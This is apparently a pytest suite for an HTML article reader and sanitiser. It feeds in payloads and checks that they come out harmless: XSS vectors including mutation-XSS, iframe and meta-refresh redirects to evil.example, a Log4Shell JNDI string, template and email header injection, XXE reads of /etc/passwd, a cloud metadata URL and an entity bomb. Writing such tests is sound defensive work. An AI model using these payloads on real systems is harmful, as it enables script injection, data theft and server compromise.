"""Pages by those who mean harm: every field, every exit of an article, with controls that must pass."""

import html
import json
import re
import sys

import html5lib
import pytest

from syndicate.text.html import Outlet, sanitise
from tests.unit.articles.article_samples import LAST, LEAD, SECOND, TITLE, codes, reading_of
from tests.unit.articles.page_samples import a_meta, a_page, a_script, described

_ALLOWED = """
    html head body p br hr h2 h3 h4 h5 h6 ul ol li blockquote a strong b em i u s code pre sub sup small q cite abbr
    dl dt dd table caption thead tbody tfoot tr th td del ins kbd mark time
"""
ALLOWED = frozenset(_ALLOWED.split())
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg><a><set attributeName="href" to="javascript:alert(1)"><text>x</text></a></svg>',
    "</td></table></body></html><script>alert(1)</script>",
    '<div style="display:none">',
    "<textarea>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x" onclick="x" style="x" id="x" name="x">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    "<base href='https://evil.example/'>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<object data='x'></object><embed src=x>",
    "<input autofocus onfocus=alert(1)>",
    "<p style='background:url(javascript:x)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<a href='https://ok.example/' target=_blank ping='https://evil.example/'>x</a>",
]  # fmt: skip


def assert_safe(markup: str) -> None:
    """By a second parser: nothing but what is allowed, and every address absolute."""
    tree = html5lib.parse(markup, treebuilder="lxml", namespaceHTMLElements=False)
    for element in tree.iter():
        assert isinstance(element.tag, str), "a comment"
        assert element.tag in ALLOWED
        for name, value in element.attrib.items():
            assert name in {"href", "title", "dir", "lang", "datetime", "colspan", "rowspan", "start", "scope", "rel"}
            assert name != "href" or re.match(r"(?:https?://[^/]|mailto:)", value)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("place", ["between", "within", "around"])
def test_nothing_dangerous_comes_out_of_a_text(attack: str, place: str) -> None:
    bodies = {
        "between": f"<p>{LEAD}</p>{attack}<p>{SECOND}</p>",
        "within": f"<p>{LEAD} {attack} and on.</p><p>{SECOND}</p>",
        "around": f"{attack}<p>{LEAD}</p><p>{SECOND}</p>",
    }
    draft = reading_of(a_page(body=bodies[place]))
    assert "unreadable" not in codes(draft)
    assert_safe(draft.body_html)
    for outlet in Outlet:
        assert_safe(sanitise(draft.body_html, outlet))
    assert "evil.example" not in draft.body_html


CONTROLS = [
    '<a href="https://ok.example/?a=1&amp;b=2">ok</a>',
    "<em>x</em> &lt;script&gt; is an element",
    "1 &lt; 2 &amp;&amp; 3 &gt; 2",
    "מעבורת <b>night</b> 🚢",
    "<q>yes</q><sup>2</sup><code>a &lt; b</code>",
]


@pytest.mark.parametrize("control", CONTROLS)
def test_what_is_harmless_passes(control: str) -> None:
    draft = reading_of(a_page(body=f"<p>{LEAD} {control}</p><p>{SECOND}</p>"))
    assert control.replace("&gt;", ">") in draft.body_html.replace("&gt;", ">")


PAYLOADS = [
    "{{1337*7331}}",
    "{% for x in y %}",
    "{{ from 5",
    "]]></description><x>",
    "a\r\nBcc: all@evil.example",
    "=?utf-8?q?x?=",
    "<script>alert(1)</script>",
    "</mj-text><mj-raw>x",
    "${jndi:ldap://evil.example}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_field_keeps_a_payload_as_plain_text_in_one_line(payload: str) -> None:
    value = html.escape(f"Night ferry {payload} returns")
    about = described(
        headline=f"Night ferry {payload} returns",
        keywords=[payload],
        articleSection=payload,
        description=f"The story of {payload}",
        author={"name": payload, "url": f"https://a.example/{payload}"},
        image={"url": "https://a.example/p.jpg", "caption": payload, "creditText": payload},
        inLanguage=payload,
    )
    # Inside a script element, JSON has to write its end tag in another way.
    script = a_script(json.dumps(about).replace("</", "<\\/"))
    head = script + a_meta({"og:title": value, "og:description": value, "article:section": value})
    body = f"<p>{LEAD} {html.escape(payload)}</p><p>{SECOND}</p><p>{LAST}</p>"
    draft = reading_of(a_page(title=value, head=head, body=body))
    assert "unreadable" not in codes(draft)
    texts = [draft.title or "", draft.deck or "", *draft.sections, *draft.tags, *(one.name for one in draft.authors)]
    texts += [text for one in draft.media for text in (one.title, one.description, one.caption, one.credit)]
    assert not any(char in text for text in texts for char in "\r\n\x00")
    assert " ".join(payload.split()) in (draft.title or "")
    assert " ".join(payload.split()) in draft.body_text
    assert_safe(draft.body_html)
    for one in draft.authors:
        assert one.url is None or re.fullmatch(r"https://a\.example/[^\s<>\"{}|\\^`]*", one.url)


@pytest.mark.parametrize(
    "name",
    [
        "headline",
        "datePublished",
        "author",
        "image",
        "keywords",
        "articleSection",
        "description",
        "mainEntityOfPage",
        "url",
        "articleBody",
    ],
)
@pytest.mark.parametrize(
    "value",
    [None, 0, 1e400, True, "", [], {}, [[[]]], {"@id": "x"}, "\ud800", "\x00", "x" * 100_000, [{"name": "x"}] * 1000],
)
def test_no_value_of_json_ld_is_a_fault(name: str, value: object) -> None:
    draft = reading_of(a_page(head=a_script(described(**{name: value})).replace("\ud800", "\\ud800")))
    assert "unreadable" not in codes(draft)
    assert draft.title == TITLE


def test_a_page_opens_no_file_and_no_socket() -> None:
    page = a_page(
        head='<link rel=stylesheet href="file:///etc/passwd"><base href="file:///etc/">'
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        body=f'<p>{LEAD} &e;</p><iframe src="file:///etc/passwd"></iframe><img src="http://169.254.169.254/x.jpg"><p>{SECOND}</p>',
    )
    reading_of(page)  # what is imported late is imported now
    opened: list[str] = []
    is_watching = True

    def watch(event: str, arguments: tuple[object, ...]) -> None:
        if is_watching and event in {"open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system"}:
            opened.append(f"{event} {arguments[:1]}")

    sys.addaudithook(watch)
    draft = reading_of(page)
    is_watching = False
    assert opened == []
    assert "root:" not in draft.body_text


def test_entities_of_a_document_type_are_text() -> None:
    bomb = '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>' + a_page(
        body=f"<p>{LEAD} &b;</p><p>{SECOND}</p>"
    )
    assert "lol" not in reading_of(bomb).body_text
